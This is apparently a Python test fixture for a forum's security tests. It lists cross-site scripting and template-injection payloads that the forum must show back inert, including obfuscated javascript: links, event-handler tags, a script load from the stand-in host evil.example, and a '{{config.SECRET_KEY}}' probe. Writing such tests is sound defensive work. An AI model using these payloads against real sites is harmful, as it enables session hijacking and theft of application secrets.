"""Cross-site scripting payloads the forum must store and show back inert.

Short enough (at most 80 characters) to fit every place they are tried: titles, bodies, replies, tags,
display names, organisation and deployment names. ``TEMPLATE_MARK`` payloads check that user text is never
evaluated as a template: ``tpl{{7*7}}end`` must never come back as ``tpl49end``.
"""
from __future__ import annotations

TEMPLATE_EVALUATED = "tpl49end"

PAYLOADS: list[str] = [
    # Script tags, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\"><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # Embedding elements.
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    # Dangerous schemes, in HTML and in Markdown, with entity and case obfuscation.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#0000106&#0000097vascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](x\" onerror=\"alert(1))",
    "[x](x\" onmouseover=\"alert(1))",
    "<https://example.test/\"onmouseover=\"alert(1)>",
    "<javascript:alert(1)>",
    # Template injection.
    "tpl{{7*7}}end",
    "tpl{% if 1 %}49{% endif %}end",
    "{{config.SECRET_KEY}}{{ config }}",
]

assert len(PAYLOADS) >= 25 and all(len(p) <= 80 for p in PAYLOADS)
